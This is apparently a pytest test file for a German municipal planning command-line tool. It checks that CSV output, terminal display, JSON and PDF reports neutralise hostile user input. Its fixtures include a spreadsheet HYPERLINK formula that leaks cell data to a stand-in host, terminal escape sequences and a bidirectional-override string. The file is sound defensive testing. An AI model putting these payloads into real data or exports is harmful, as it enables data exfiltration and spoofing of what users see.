"""Text that tries to act on whoever reads it, as a user types it: the CSV
lists neutralise formulas like the exports (one function, `csv_safe`), the terminal never
interprets rich markup or escape sequences from the data (they are shown visibly), JSON
stays exact, and the PDF draws what its fonts can and replaces the rest visibly."""

import csv
import io
import json

import pytest

from controlling.commands.output import terminal_safe
from controlling.services.spreadsheet import csv_restore, csv_safe
from tests.report_builders import pdf_text

FORMULAS = ['=HYPERLINK("http://böse.example/?"&A1,"Klick")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "=1+1", "'schon mit Apostroph"]
ESCAPES = "Rot \x1b[31mROT\x1b[0m \x1b]8;;http://böse.example\x07Link\x1b]8;;\x07 \x9b2J"
MARKUP = "[link=http://böse.example]Klick[/link] [bold red]laut[/]"
BIDI = "Rechnung \u202egnunhceR\u202c"


@pytest.fixture
def hostile(cli, people):
    for number, title in enumerate([*FORMULAS, ESCAPES, MARKUP, BIDI], start=1):
        result = cli("recommendation", "add", "--number", number, "--title", title,
                     "--district", "Osterfeld", "--department", "3-1", "--on", "2024-01-10",
                     "--description", title, user="planer")
        assert result.exit_code == 0, result.output
    for args in (("measure", "add", "--title", "+1+1", "--department", "3-1", "--district",
                  "Osterfeld"),
                 ("measure", "add", "--title", "@SUM(A1)", "--department", "3-1", "--district",
                  "Osterfeld"),
                 ("event", "add", "--district", "Osterfeld", "--date", "2023-09-06",
                  "--event-format", "world_cafe", "--round", "2"),
                 ("suggestion", "add", "--event", 1, "--text", "=HYPERLINK(\"x\")"),
                 ("suggestion", "add", "--event", 1, "--text", ESCAPES)):
        result = cli(*args, user="planer")
        assert result.exit_code == 0, (args, result.output)
    return cli


def csv_fields(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


def test_the_recommendation_list_as_csv_neutralises_formulas_like_the_export(hostile):
    listed = hostile("recommendation", "list", "--format", "csv", user="ausschuss")
    exported = hostile("export", "recommendations", user="ausschuss")
    titles = csv_fields(listed.stdout, "title")
    assert titles[:len(FORMULAS)] == [csv_safe(t) for t in FORMULAS]
    assert titles[0] == '\'=HYPERLINK("http://böse.example/?"&A1,"Klick")'
    assert titles[1:4] == ["'+1+1", "'-2+3", "'@SUM(A1:A9)"]
    assert titles[5] == "''schon mit Apostroph"
    assert [csv_restore(t) for t in titles[:len(FORMULAS)]] == FORMULAS
    assert titles == csv_fields(exported.stdout, "title")
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)


def test_the_measure_and_suggestion_lists_as_csv_are_neutralised_too(hostile):
    measures = hostile("measure", "list", "--format", "csv", user="ausschuss").stdout
    assert csv_fields(measures, "title") == ["'+1+1", "'@SUM(A1)"]
    suggestions = hostile("suggestion", "list", "--format", "csv", user="ausschuss").stdout
    assert csv_fields(suggestions, "text")[0] == "'=HYPERLINK(\"x\")"


def test_the_csv_list_keeps_the_data_exact_when_it_goes_to_a_file(hostile):
    listed = hostile("recommendation", "list", "--format", "csv", user="ausschuss").stdout
    assert ESCAPES in csv_fields(listed, "title")  # a pipe gets the data as it is


def test_the_terminal_shows_escape_sequences_visibly_and_never_acts_on_them(hostile):
    for args in (("recommendation", "list"), ("recommendation", "show", len(FORMULAS) + 1),
                 ("suggestion", "list"), ("suggestion", "show", 2), ("trace", len(FORMULAS) + 1)):
        out = hostile(*args, user="ausschuss").stdout
        assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out, args
        assert "␛[31mROT" in out or "␛[31m" in out.replace("\n", ""), args


def test_rich_markup_in_titles_is_printed_as_it_was_typed(hostile):
    number = len(FORMULAS) + 2
    table = hostile("recommendation", "list", user="ausschuss").stdout
    assert "[link=http://böse.example]Klick[/link]" in table.replace("\n", "").replace(" ", "") \
        or "[link=http://böse.example]Klick[/link]" in table
    shown = hostile("recommendation", "show", number, user="ausschuss").stdout
    assert MARKUP in shown
    traced = hostile("trace", number, user="ausschuss").stdout
    assert "[link=http://böse.example]Klick[/link]" in traced


def test_bidirectional_overrides_are_replaced_visibly_on_the_terminal(hostile):
    shown = hostile("recommendation", "show", len(FORMULAS) + 3, user="ausschuss").stdout
    assert "\u202e" not in shown and "Rechnung �gnunhceR�" in shown


def test_json_output_stays_exact_and_escapes_what_a_terminal_would_act_on(hostile):
    result = hostile("recommendation", "show", len(FORMULAS) + 1, "--format", "json",
                     user="ausschuss")
    assert json.loads(result.stdout)["title"] == ESCAPES
    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout
    assert "\\u001b[31m" in result.stdout and "\\u009b" in result.stdout
    bidi = hostile("recommendation", "show", len(FORMULAS) + 3, "--format", "json",
                   user="ausschuss")
    assert json.loads(bidi.stdout)["title"] == BIDI and "\u202e" not in bidi.stdout


def test_an_error_message_with_hostile_input_is_shown_visibly(hostile):
    result = hostile("recommendation", "add", "--number", 99, "--title", "x", "--district",
                     "\x1b[2JAtlantis", "--department", "3-1", user="planer")
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "Unbekannter Sozialraum '␛[2JAtlantis'" in (
        result.stderr)


def test_the_pdf_replaces_what_its_fonts_cannot_draw_visibly(hostile, tmp_path):
    added = hostile("recommendation", "add", "--number", 50, "--title",
                    "Kita 🧒 mit \x07Klingel und \u202eRTL\u202c", "--district", "Osterfeld",
                    "--department", "3-1", "--on", "2024-01-10", user="planer")
    assert added.exit_code == 0, added.output  # PostgreSQL refuses NUL in text: not here
    out = tmp_path / "bericht.pdf"
    result = hostile("report", "quarterly", "--quarter", "2024-Q1", "--out", out,
                     "--made-on", "2024-04-02", user="ausschuss")
    assert result.exit_code == 0, result.output
    text = pdf_text(out.read_bytes())
    assert "\x00" not in text and "\u202e" not in text and "\x1b" not in text
    assert "\x07" not in text and "Kita � mit �Klingel und �RTL�" in text.replace("\n", " ")


def test_terminal_safe_replaces_controls_by_their_pictures_and_keeps_text():
    assert terminal_safe("a\x1b[31mb\rc\x00d\x7f") == "a␛[31mb␍c␀d␡"
    assert terminal_safe("Zeile 1\nZeile 2\tTab") == "Zeile 1\nZeile 2\tTab"
    assert terminal_safe("\x9b2J \u202eabc \u2066x\u2069") == "�2J �abc �x�"
    assert terminal_safe("Straße – „Zitat“ 😀") == "Straße – „Zitat“ 😀"
